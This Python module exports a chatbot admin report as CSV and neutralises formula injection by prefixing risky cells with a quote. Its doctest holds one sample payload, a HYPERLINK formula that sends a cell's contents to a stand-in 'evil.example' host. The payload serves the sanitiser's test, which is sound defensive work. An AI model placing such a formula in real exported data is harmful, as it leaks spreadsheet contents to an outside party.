"""A :class:`~.report.Report` as CSV (groups, gap questions, sections, days, raw events). Every text cell a
spreadsheet would run as a formula (it starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return) is
prefixed with ``'``, as OWASP recommends: questions are typed by anyone.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence
from typing import Any

from bot.web.admin.report import Report
from bot.web.admin.report_text import in_context

# ---------------------------------------------------------------- CSV


_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # OWASP "CSV injection": what makes a spreadsheet run a cell


def safe_cell(value: Any) -> Any:
    """A cell no spreadsheet runs as a formula: text starting with = + - @ tab or CR gets a leading ``'``.

    >>> safe_cell('=HYPERLINK("http://evil.example/?d="&A1,"click")')[:3], safe_cell("-bash: x"), safe_cell(-1.5)
    ("'=H", "'-bash: x", -1.5)
    """
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value


class _SafeWriter:
    """csv.writer that neutralises every cell and quotes every field (OWASP's two recommendations)."""

    def __init__(self, buffer: io.StringIO) -> None:
        self._writer = csv.writer(buffer, quoting=csv.QUOTE_ALL)

    def writerow(self, row: Sequence[Any]) -> None:
        self._writer.writerow([safe_cell(v) for v in row])


def report_csv(report: Report, table: str, rows: Sequence[dict] = ()) -> str:
    buffer = io.StringIO()
    writer = _SafeWriter(buffer)  # every table: questions, labels and section titles come from outside
    if table == "groups":
        writer.writerow(
            [
                "rank",
                "size",
                "label",
                "last_7_days",
                "previous_7_days",
                "unanswered",
                "tentative",
                "downvoted",
                "didnt_help",
                "nearest_section",
                "subjects",
                "examples",
            ]
        )
        for n, g in enumerate(report.groups, 1):
            writer.writerow(
                [
                    n,
                    g.size,
                    g.label,
                    g.last_week,
                    g.week_before,
                    g.kinds.get("unanswered", 0),
                    g.kinds.get("tentative", 0),
                    g.kinds.get("downvoted", 0),
                    g.kinds.get("not_helpful", 0),
                    g.section,
                    " · ".join(g.subjects),
                    " | ".join(f"{e.times}× {in_context(e)}" for e in g.examples),
                ]
            )
    elif table == "gaps":  # one row per question shown in a group, with what the bot did and the context
        writer.writerow(
            ["group_rank", "group", "question", "times", "earlier_in_session", "tier", "section_cited", "down_reasons"]
        )
        for n, g in enumerate(report.groups, 1):
            for e in g.examples:
                writer.writerow(
                    [
                        n,
                        g.label,
                        e.question,
                        e.times,
                        " | ".join(e.context),
                        e.tier,
                        e.section,
                        ", ".join(f"{r} {c}" for r, c in e.reasons),
                    ]
                )
    elif table == "sections":
        writer.writerow(["section_key", "title", "cited", "up", "down", "down_reasons", "didnt_help"])
        for s in report.sections:
            writer.writerow([s.key, s.title, s.cited, s.up, s.down, s.reasons_text, s.not_helpful])
    elif table == "days":
        names = list(report.series)
        writer.writerow(["day", *names])
        for i, d in enumerate(report.days):
            writer.writerow([d.isoformat(), *(report.series[n][i] for n in names)])
    else:  # events
        columns = [
            "at",
            "kind",
            "question",
            "language",
            "tier",
            "confidence",
            "cited",
            "signature",
            "vote",
            "reason",
            "latency_ms",
            "session",
            "origin",
            "answer_id",
        ]
        writer.writerow(columns)
        for r in rows:
            writer.writerow(
                [
                    r["at"].isoformat(timespec="seconds"),
                    *(
                        " ".join(r.get(c) or []) if c == "cited" else ("" if r.get(c) is None else r.get(c))
                        for c in columns[1:]
                    ),
                ]
            )
    return buffer.getvalue()
